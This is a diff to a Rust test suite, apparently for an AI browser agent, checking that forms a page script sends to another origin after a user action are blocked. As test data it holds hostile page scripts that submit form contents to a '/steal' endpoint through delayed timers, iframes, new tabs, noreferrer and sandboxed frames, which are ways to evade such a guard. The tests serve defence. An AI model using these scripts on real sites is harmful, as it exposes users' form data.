@@ -80,6 +80,7 @@ async fn agreed(browser: &Browser, changes: &Changes, named: &str) -> Changes {
 }
 
 #[tokio::test(flavor = "multi_thread")]
+#[expect(clippy::too_many_lines, reason = "a table of forms")]
 async fn a_form_that_was_agreed_to_arrives_in_each_way_that_pages_send_one() {
     const FIELDS: &str = "<input aria-label=Name name=name value='Ada &amp; Bo'><input type=hidden name=id value=7>\
         <input type=password name=pass value=s3cret aria-label=Pass><input type=checkbox name=gift checked>\
@@ -260,17 +261,147 @@ async fn a_form_of_the_own_origin_does_not_become_one_to_another() {
     for script in [
         "b.onmousedown = () => f.action = '{shop}/x'",
         "b.onclick = () => { f.action = '{shop}/x'; f.submit() }",
+        "b.onmousedown = () => { f.action = '{shop}/x'; f.target = '_blank' }",
+        "b.onmousedown = () => { f.action = '{shop}/x'; f.target = '_blank'; f.rel = 'opener' }",
+        "b.onmousedown = () => { f.action = '{shop}/x'; f.target = 'inside' }",
+        "b.onclick = () => { f.action = '{shop}/x'; f.submit(); for (const end = Date.now() + 200; Date.now() < end;); }",
     ] {
-        let site = page(&other, &format!("<form id=f method=post><input name=a value=1><button id=b>Go</button></form><script>{script}</script>")).await;
+        let site = page(&other, &format!("<iframe name=inside></iframe><form id=f method=post><input name=a value=1><button id=b>Go</button></form><script>{script}</script>")).await;
         let browser = allowing(&[&site, &other]).await;
         let page = opened(&browser, &site).await;
         let after = browser.click(&reference(&page, "\"Go\""), &Info::default()).await.unwrap();
         assert_eq!(other.asked(), Vec::<String>::new(), "{script}");
-        assert!(
-            after.notes.iter().any(|note| note.contains("that was not asked about")),
-            "{:?}",
-            after.notes
-        );
+        assert!(is_told(&after), "{script}: {:?}", after.notes);
+    }
+}
+
+fn is_told(changes: &Changes) -> bool {
+    changes.notes.iter().any(|note| note.contains("that was not asked about"))
+}
+
+/// Reads the browser until it tells that a form was not sent, or `site` has received one.
+async fn refused(browser: &Browser, last: Changes, site: &Site, what: &str) {
+    let reading = async {
+        let mut page = last;
+        while !is_told(&page) {
+            page = browser.wait(&Until::Parsed, std::time::Duration::from_secs(5)).await.unwrap();
+            assert_eq!(site.asked(), Vec::<String>::new(), "{what}");
+        }
+    };
+    let read = tokio::time::timeout(std::time::Duration::from_secs(20), reading).await;
+    assert!(read.is_ok(), "{what}: not told");
+    assert_eq!(site.asked(), Vec::<String>::new(), "{what}");
+}
+
+/// Does something on a page whose script sends a form to another origin 400 ms later.
+async fn sends_late(action: &str, script: &str) {
+    const PAGE: &str = "<iframe name=inside></iframe><form id=f method=post><input id=i name=a aria-label=Name>\
+        <select id=s aria-label=Fruit><option>Pear<option>Plum</select><button id=b>Go</button></form>\
+        <button>Elsewhere</button><script>const send = (form = f) => { form.action = '{shop}/steal'; form.submit() };\
+        const later = (what = send) => setTimeout(() => what(), 400); f.onsubmit = () => false;";
+    let other = Site::new(|_| Some(html("other"))).await;
+    let main = format!("{PAGE}{script}</script>").replace("{shop}", &other.origin());
+    let site = Site::new(move |target| match target {
+        "/" => Some(html(&main)),
+        "/tab" => Some(html("<button onclick=opener.go()>Go</button>")),
+        _ => Some(html("next")),
+    })
+    .await;
+    let browser = allowing(&[&site, &other]).await;
+    let page = opened(&browser, &site).await;
+    let (plain, named) = (Info::default(), |name: &str| reference(&page, name));
+    let done = match action {
+        "press" => browser.press(Some(&named("\"Name\"")), "Enter", &plain).await,
+        "fill" => browser.fill(&named("\"Name\""), "x", &plain).await,
+        "select" => browser.select(&named("\"Fruit\""), &["Plum".into()]).await,
+        _ => browser.click(&named("\"Go\""), &plain).await,
+    };
+    let mut done = done.unwrap();
+    let then = match action {
+        "click twice" => Some(named("\"Elsewhere\"")),
+        "click in another tab" => Some(reference(&done, "\"Go\"")),
+        _ => None,
+    };
+    if let Some(then) = then.filter(|_| !is_told(&done)) {
+        done = browser.click(&then, &plain).await.unwrap();
+    }
+    refused(&browser, done, &other, &format!("{action}: {script}")).await;
+}
+
+// The judgement of a form once depended on the time since the action.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_form_that_a_script_sends_long_after_an_action_does_not_go_to_another_origin() {
+    for (action, script) in [
+        ("click", "b.onclick = () => later()"),
+        ("click twice", "b.onclick = () => later()"),
+        ("click in another tab", "b.onclick = () => open('/tab'); window.go = () => later()"),
+        ("press", "f.onsubmit = () => { later(); return false }"),
+        ("fill", "i.oninput = () => later()"),
+        ("select", "s.onchange = () => later()"),
+    ] {
+        sends_late(action, script).await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn such_a_form_does_not_go_there_from_a_frame_or_a_tab_or_unnamed() {
+    for script in [
+        "b.onclick = () => { f.target = 'inside'; later() }",
+        "b.onclick = () => { f.target = '_blank'; later() }",
+        "b.onclick = () => { f.target = '_blank'; f.rel = 'opener'; later() }",
+        // The page is gone when the request is made.
+        "b.onclick = () => { f.target = '_blank'; later(() => { send(); location = '/next' }) }",
+        // The page fills an empty tab.
+        "b.onclick = () => { const tab = open(); later(() => { tab.document.write('<form method=post>'); send(tab.document.forms[0]) }) }",
+        // The browser does not tell which page sends the others.
+        "b.onclick = () => { f.rel = 'noreferrer'; later() }",
+        "b.onclick = () => { f.rel = 'noreferrer'; f.target = '_blank'; later() }",
+        "const inner = document.createElement('iframe'); inner.sandbox = 'allow-scripts allow-forms';\
+         inner.srcdoc = `<form method=post action={shop}/steal></form><script>onmessage = () => document.forms[0].submit()</` + `script>`;\
+         document.body.append(inner); b.onclick = () => later(() => inner.contentWindow.postMessage('', '*'))",
+    ] {
+        sends_late("click", script).await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn pages_that_nothing_was_done_on_send_their_forms() {
+    const SENDS: &str =
+        "<form id=g method=post action={to}><input name=token value=1></form><script>g.submit()</script>";
+    for (what, first) in [
+        ("a page", SENDS),
+        ("the page after a link", "<a href=/sends>Go</a>"),
+        ("the page in a new tab", "<a href={other}/sends target=_blank rel=opener>Go</a>"),
+        (
+            "a page that hides where it comes from, to itself",
+            "<meta name=referrer content=no-referrer><form method=post action=/own><button>Go</button></form>",
+        ),
+    ] {
+        let back = Site::new(|_| Some(html("<h1>Signed in</h1>"))).await;
+        let sends = SENDS.replace("{to}", &back.url("/token"));
+        let other = Site::new({
+            let sends = sends.clone();
+            move |_| Some(html(&sends))
+        })
+        .await;
+        let first = first.replace("{to}", &back.url("/token")).replace("{other}", &other.origin());
+        let site = Site::new(move |target| match target {
+            "/" => Some(html(&first)),
+            "/sends" => Some(html(&sends)),
+            _ => Some(html("<h1>Signed in</h1>")),
+        })
+        .await;
+        let browser = allowing(&[&site, &other, &back]).await;
+        let page = opened(&browser, &site).await;
+        let mut notes = page.notes.clone();
+        if page.now.lines.iter().any(|line| line.contains("\"Go\"")) {
+            notes.extend(browser.click(&reference(&page, "\"Go\""), &Info::default()).await.unwrap().notes);
+        }
+        let signed_in = Until::Text("Signed in".into());
+        let done = browser.wait(&signed_in, std::time::Duration::from_secs(10)).await;
+        assert!(done.is_ok(), "{what}: {done:?} {notes:?}");
+        let is_sent = |site: &Site| site.asked().iter().any(|asked| asked.starts_with("POST"));
+        assert!(is_sent(&back) || is_sent(&site), "{what}");
     }
 }
 
